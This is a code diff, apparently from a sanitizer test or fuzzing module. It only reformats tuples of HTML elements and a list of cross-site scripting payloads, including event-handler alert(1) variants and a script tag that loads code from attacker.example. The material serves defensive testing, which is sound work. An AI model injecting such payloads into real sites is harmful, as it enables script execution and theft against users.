@@ -63,7 +63,22 @@ CARRIERS = (
     '<isindex action="{0}"><keygen autofocus onfocus="{0}">',
 )
 HANDLERS = ("onclick", "onerror", "onload", "ONMOUSEOVER", "onfocus", "onanimationstart", "onpointerenter")
-ELEMENTS = ("p", "a", "img", "table", "td", "li", "h2", "details", "marquee", "svg", "math", "body", "input", "template")
+ELEMENTS = (
+    "p",
+    "a",
+    "img",
+    "table",
+    "td",
+    "li",
+    "h2",
+    "details",
+    "marquee",
+    "svg",
+    "math",
+    "body",
+    "input",
+    "template",
+)
 BREAKAGES = (
     "{0}",
     "<p>{0}",
@@ -105,7 +120,11 @@ def hostile_fragments() -> Iterator[str]:
         for disguise in disguises(address):
             for carrier in CARRIERS:
                 yield carrier.format(disguise)
-    payloads = ["<script>alert(1)</script>", "<script src=https://attacker.example/x.js></script>", "<SCRIPT/x>alert(1)"]
+    payloads = [
+        "<script>alert(1)</script>",
+        "<script src=https://attacker.example/x.js></script>",
+        "<SCRIPT/x>alert(1)",
+    ]
     payloads += [f"<{element} {handler}=alert(1) src=x href=x>x" for element in ELEMENTS for handler in HANDLERS]
     payloads += [f"<{element}/{handler}='alert(1)'>x</{element}>" for element in ELEMENTS for handler in HANDLERS]
     for payload in payloads:
